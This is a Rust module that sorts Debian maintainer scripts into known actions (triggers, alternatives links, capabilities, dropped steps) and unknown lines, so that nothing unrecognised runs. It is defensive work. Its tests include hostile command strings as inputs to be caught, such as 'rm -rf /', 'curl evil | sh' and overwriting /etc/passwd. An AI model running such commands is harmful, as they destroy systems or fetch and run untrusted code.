//! Debian's maintainer scripts: what they do where that is known, and what is not.
//!
//! Most are written by debhelper: sections between `# Automatically added by` and `# End automatically added section`, which do one of a few
//! things. What remains is looked at line by line: the frame around the sections, and calls of known programs, are understood; all else is
//! not, and is never run as it stands.

use std::collections::{BTreeMap, BTreeSet};

use super::expand;
use crate::capabilities;
use crate::manifest::{Moment, Right, Scriptlet};
use crate::xattr::Value;

/// What is known of a script.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Verdict {
    /// Known programs that keep indexes up to date: they become triggers.
    pub triggers: BTreeSet<&'static str>,
    /// Links that it wants where nothing else is: where they are, and what they lead to.
    pub alternatives: BTreeSet<(String, String)>,
    /// Capabilities that it gives programs, by their paths.
    pub capabilities: BTreeMap<String, Value>,
    /// What it does that need not be done here, in words.
    pub dropped: BTreeSet<String>,
    /// Lines that are not understood.
    pub unknown: Vec<String>,
}

/// Programs by the first word of a line: the trigger that does the same, or why it need not be done.
const PROGRAMS: [(&str, Result<&str, &str>); 28] = [
    ("ldconfig", Ok("ldconfig")),
    ("update-mime-database", Ok("update-mime-database")),
    ("update-desktop-database", Ok("update-desktop-database")),
    ("glib-compile-schemas", Ok("glib-compile-schemas")),
    ("gtk-update-icon-cache", Ok("gtk-update-icon-cache")),
    ("update-icon-caches", Ok("gtk-update-icon-cache")),
    ("gio-querymodules", Ok("gio-querymodules")),
    ("gdk-pixbuf-query-loaders", Ok("gdk-pixbuf-query-loaders")),
    ("gtk-query-immodules-3.0", Ok("gtk-query-immodules-3.0")),
    ("libgvc6-config-update", Ok("libgvc6-config-update")),
    ("fc-cache", Ok("fc-cache")),
    ("mandb", Ok("mandb")),
    ("deb-systemd-helper", Err("enables services of systemd, which this system has not")),
    ("deb-systemd-invoke", Err("starts services of systemd, which this system has not")),
    ("systemctl", Err("talks to systemd, which this system has not")),
    ("systemd-sysusers", Err("makes users by systemd, which this system has not")),
    ("systemd-tmpfiles", Err("makes folders by systemd, which this system has not")),
    ("invoke-rc.d", Err("starts services of System V, which this system has not")),
    ("update-rc.d", Err("enables services of System V, which this system has not")),
    ("py3compile", Err("compiles Python's files, which Python does by itself")),
    ("py3clean", Err("removes compiled files of Python")),
    ("pypy3compile", Err("compiles Python's files, which PyPy does by itself")),
    ("pypy3clean", Err("removes compiled files of PyPy")),
    ("dpkg-maintscript-helper", Err("moves files of older versions of the package")),
    ("dpkg-trigger", Err("wakes triggers of dpkg")),
    ("update-menus", Err("updates Debian's old menus")),
    ("install-info", Err("lists Info documents")),
    ("deb-gview", Err("shows packages")),
];

/// What sections of debhelper do that is not told by the programs that they call.
const SECTIONS: [(&str, Result<&str, &str>); 11] = [
    ("dh_makeshlibs", Ok("ldconfig")),
    ("dh_installmime", Ok("update-mime-database")),
    ("dh_icons", Ok("gtk-update-icon-cache")),
    ("dh_installsystemd", Err("enables services of systemd, which this system has not")),
    ("dh_installsystemduser", Err("enables services of systemd, which this system has not")),
    ("dh_installinit", Err("starts services of System V, which this system has not")),
    ("dh_python3", Err("compiles Python's files, which Python does by itself")),
    ("dh_pypy3", Err("compiles Python's files, which PyPy does by itself")),
    ("dh_installdeb", Err("moves files of older versions of the package")),
    ("dh_installtmpfiles", Err("makes folders by systemd, which this system has not")),
    ("dh_installdebconf", Err("asks questions by debconf, which this system has not")),
];

/// Looks at a script.
pub fn classify(text: &str) -> Verdict {
    let mut verdict = Verdict::default();
    let mut section: Option<&Result<&str, &'static str>> = None;
    let mut in_section = false;
    let known_section = |line: &str| {
        let name = line.strip_prefix("# Automatically added by ")?.split('/').next()?.trim();
        SECTIONS.iter().find(|(it, _)| *it == name).map(|(_, what)| what)
    };
    // A line that goes on is one line.
    let joined = text.replace("\\\n", " ");
    for line in expand::lines(&joined).iter().map(String::as_str) {
        if line.starts_with("# Automatically added by ") {
            section = known_section(line);
            in_section = true;
            match section {
                Some(Ok(trigger)) => drop(verdict.triggers.insert(static_name(trigger))),
                Some(Err(reason)) => drop(verdict.dropped.insert((*reason).to_owned())),
                None => {}
            }
            continue;
        }
        if line.starts_with("# End automatically added section") {
            in_section = false;
            continue;
        }
        if in_section && section.is_some() {
            continue;
        }
        if is_frame(line) {
            continue;
        }
        if let Some((path, value)) = capabilities::of_line(line) {
            verdict.capabilities.insert(path.to_owned(), value);
            continue;
        }
        let word = program(line);
        if word == "update-alternatives" {
            match alternatives(line) {
                Some(links) => verdict.alternatives.extend(links),
                None => verdict.unknown.push(line.to_owned()),
            }
            continue;
        }
        match PROGRAMS.iter().find(|(it, _)| *it == word) {
            Some((_, Ok(trigger))) => drop(verdict.triggers.insert(trigger)),
            Some((_, Err(reason))) => drop(verdict.dropped.insert((*reason).to_owned())),
            None => verdict.unknown.push(line.to_owned()),
        }
    }
    // Who has capabilities need not be set-user-id, which is the other way where there is no setcap.
    let is_other_way = |line: &str| line.strip_prefix("chmod u").and_then(|it| it.strip_prefix(['+', '-'])?.strip_prefix("s ")).is_some_and(|path| verdict.capabilities.contains_key(path.trim()));
    verdict.unknown.retain(|line| !is_other_way(line));
    verdict
}

/// The links of a call of update-alternatives(1): of programs; manual pages of the same name are left out. None where it is more than a plain
/// call to install or remove them.
fn alternatives(line: &str) -> Option<Vec<(String, String)>> {
    let mut words: Vec<&str> = line.trim_end_matches(';').trim().trim_end_matches("|| true").split_whitespace().filter(|it| *it != "--quiet" && *it != "--force").collect();
    // Variables at the end, of which nobody knows what they are: further links of manual pages, where there are any.
    while words.len() > 6 && words.last().is_some_and(|it| it.strip_prefix('$').is_some_and(|name| name.bytes().all(|it| it.is_ascii_alphanumeric() || it == b'_'))) {
        words.pop();
    }
    let is_plain = |it: &str| !it.is_empty() && it.bytes().all(|it| it.is_ascii_alphanumeric() || b"/._+-@".contains(&it)) && !it.contains("..");
    if words.first() != Some(&"update-alternatives") || !words.iter().all(|it| is_plain(it)) {
        return None;
    }
    if matches!(words.get(1), Some(&("--remove" | "--remove-all"))) {
        return Some(Vec::new());
    }
    let (mut links, mut rest) = (Vec::new(), &words[1..]);
    while !rest.is_empty() {
        let ["--install" | "--slave", link, _, target, more @ ..] = rest else { return None };
        rest = if rest[0] == "--install" { more.split_first().filter(|(priority, _)| priority.parse::<i32>().is_ok())?.1 } else { more };
        if !link.starts_with('/') || !target.starts_with('/') || link.ends_with('/') {
            return None;
        }
        if !link.starts_with("/usr/share/man/") {
            links.push(((*link).to_owned(), (*target).to_owned()));
        }
    }
    Some(links)
}

/// Has a package make links where nothing else is, and take away those that are its own. Who comes first has them; priorities are Debian's.
pub fn arrange(links: &BTreeSet<(String, String)>, scriptlets: &mut BTreeMap<Moment, Scriptlet>) {
    if links.is_empty() {
        return;
    }
    let rights: BTreeSet<Right> = links.iter().filter_map(|(link, _)| link.rsplit_once('/')).map(|(folder, _)| Right::Write(if folder.is_empty() { "/".into() } else { folder.into() })).collect();
    let mut add = |moment: Moment, line: fn(&str, &str) -> String| {
        let script = links.iter().map(|(link, target)| line(link, target)).collect();
        scriptlets.insert(moment, Scriptlet { interpreter: "/bin/sh".into(), script, rights: rights.clone() });
    };
    add(Moment::AfterInstall, |link, target| format!("[ -e {link} ] || [ ! -d {} ] || ln -sf {target} {link} || true\n", link.rsplit_once('/').map_or("/", |it| it.0)));
    add(Moment::BeforeRemove, |link, target| format!("[ \"$(readlink {link})\" != {target} ] || rm -f {link} || true\n"));
}

fn static_name(name: &str) -> &'static str {
    PROGRAMS.iter().find_map(|(_, it)| it.ok().filter(|it| *it == name)).unwrap_or("ldconfig")
}

/// The program that a simple command calls; nothing where the line does more than that.
fn program(line: &str) -> &str {
    // Nothing may hide behind a known name.
    let simple = line.strip_suffix("|| true").or_else(|| line.strip_suffix("|| :")).unwrap_or(line).trim();
    let simple = simple.trim_end_matches(";;").trim_end_matches(';').trim();
    let simple = simple.strip_suffix("2>/dev/null").or_else(|| simple.strip_suffix(">/dev/null 2>&1")).or_else(|| simple.strip_suffix(">/dev/null")).unwrap_or(simple);
    if simple.contains(['|', '&', ';', '`', '>', '<']) || simple.contains("$(") {
        return "";
    }
    let word = simple.split_whitespace().next().unwrap_or_default();
    word.rsplit('/').next().unwrap_or_default()
}

/// Whether a line only frames others: it asks in which situation the script is, or does nothing.
fn is_frame(line: &str) -> bool {
    if line.is_empty() || line.starts_with('#') {
        return true;
    }
    let exact = ["set -e", "set -eu", "set -u", "set -x", "esac", "fi", "done", "else", ";;", ":", "true", "exit 0", "exit 1", "exit 0;", "exit", "return 0", "exit $?"];
    if exact.contains(&line) {
        return true;
    }
    // A pattern of a case: situations of dpkg only.
    if let Some(pattern) = line.strip_suffix(')').or_else(|| line.strip_suffix(") ;;")).or_else(|| line.strip_suffix("):;;")) {
        let situations = [
            "configure", "abort-upgrade", "abort-remove", "abort-deconfigure", "abort-install", "triggered", "install", "upgrade", "remove", "purge",
            "disappear", "failed-upgrade", "deconfigure", "*",
        ];
        if pattern.trim_start_matches('(').split('|').all(|it| situations.contains(&it.trim().trim_matches(['"', '\'']))) {
            return true;
        }
    }
    let asks = ["case \"$1\" in", "case $1 in", "case \"${1}\" in", "case \"${1:-}\" in"];
    if asks.contains(&line) {
        return true;
    }
    // An `if` about the situation, or whether a program is there: without commands that do anything.
    if let Some(condition) = line.strip_prefix("if ").and_then(|it| it.strip_suffix("; then").or_else(|| it.strip_suffix(";then"))) {
        let safe = |it: &str| {
            let it = it.trim();
            (it.starts_with("[ ") && it.ends_with(" ]") || it.starts_with("test ") || it.starts_with("command -v ") || it.starts_with("which "))
                && !it.contains(['`', ';', '<']) && !it.contains("$(")
        };
        let plain = condition.replace(">/dev/null", "").replace("> /dev/null", "").replace("2>&1", "").replace("2>/dev/null", "");
        return plain.replace("||", "&&").split("&&").all(safe);
    }
    // Complaints about situations that do not exist.
    (line.starts_with("echo ") || line.starts_with("printf ")) && line.ends_with(">&2") && !line.contains(['`', ';', '|']) && !line.contains("$(")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn debhelper_sections_are_known() {
        let text = "#!/bin/sh\nset -e\n# Automatically added by dh_makeshlibs/13.11.4\nif [ \"$1\" = \"configure\" ]; then\n\tldconfig\nfi\n\
                    # End automatically added section\n# Automatically added by dh_python3\nif command -v py3compile >/dev/null 2>&1; then\n\
                    \tpy3compile -p demo \nfi\n# End automatically added section\nexit 0\n";
        let verdict = classify(text);
        assert_eq!(verdict.triggers, BTreeSet::from(["ldconfig"]));
        assert_eq!(verdict.dropped.len(), 1);
        assert!(verdict.unknown.is_empty(), "{:?}", verdict.unknown);
    }

    #[test]
    fn the_frame_does_nothing() {
        let text = "#!/bin/sh\nset -e\ncase \"$1\" in\n  configure)\n    update-mime-database /usr/share/mime || true\n  ;;\n  abort-upgrade|abort-remove|abort-deconfigure)\n  ;;\n\
                    \n  *)\n    echo \"postinst called with unknown argument \\`$1'\" >&2\n    exit 1\n  ;;\nesac\n";
        let verdict = classify(text);
        assert_eq!(verdict.triggers, BTreeSet::from(["update-mime-database"]));
        // Back quotes in a message could be a command: a person must look.
        assert_eq!(verdict.unknown.len(), 1);
    }

    #[test]
    fn alternatives_become_links() {
        let verdict = classify(
            "update-alternatives --install /usr/bin/awk awk /usr/bin/mawk 5 --slave /usr/share/man/man1/awk.1.gz awk.1.gz /usr/share/man/man1/mawk.1.gz \\\n \
             --slave /usr/bin/nawk nawk /usr/bin/mawk\nupdate-alternatives --remove awk /usr/bin/old || true\n",
        );
        assert!(verdict.unknown.is_empty(), "{:?}", verdict.unknown);
        let link = |it: &str| (format!("/usr/bin/{it}"), "/usr/bin/mawk".to_owned());
        assert_eq!(verdict.alternatives, BTreeSet::from([link("awk"), link("nawk")]));
        let mut scriptlets = BTreeMap::new();
        arrange(&verdict.alternatives, &mut scriptlets);
        assert_eq!(scriptlets[&Moment::AfterInstall].rights, BTreeSet::from([Right::Write("/usr/bin".into())]));
        assert!(scriptlets[&Moment::AfterInstall].script.starts_with("[ -e /usr/bin/awk ] || [ ! -d /usr/bin ] || ln -sf /usr/bin/mawk /usr/bin/awk || true\n"));
        assert!(scriptlets[&Moment::BeforeRemove].script.starts_with("[ \"$(readlink /usr/bin/awk)\" != /usr/bin/mawk ] || rm -f /usr/bin/awk || true\n"));
    }

    #[test]
    fn what_hides_behind_known_names_is_not_known() {
        for line in [
            "ldconfig; rm -rf /", "ldconfig && curl evil | sh", "ldconfig $(rm x)", "ldconfig `rm x`", "ldconfig > /etc/passwd", "if rm -rf /; then",
            "if [ -e x ] && rm x; then", "rm)", "echo x > /etc/passwd >&2; rm x >&2", "exit 0; rm x", "case \"$(rm x)\" in", "if [ \"$(rm x)\" ]; then",
            "adduser --system demo", "update-alternatives --install /usr/bin/awk awk /usr/bin/mawk", "update-alternatives --install /usr/bin/$x x /usr/bin/y 5",
            "update-alternatives --install /usr/bin/../x x /usr/bin/y 5", "update-alternatives --set awk /usr/bin/mawk", "x=1 update-alternatives --remove a /b",
        ] {
            assert_eq!(classify(line).unknown, [line], "{line}");
        }
        // A section that is not known is read like the rest.
        let verdict = classify("# Automatically added by dh_strange/1\nrm -rf /\n# End automatically added section\n");
        assert_eq!(verdict.unknown, ["rm -rf /"]);
    }
}
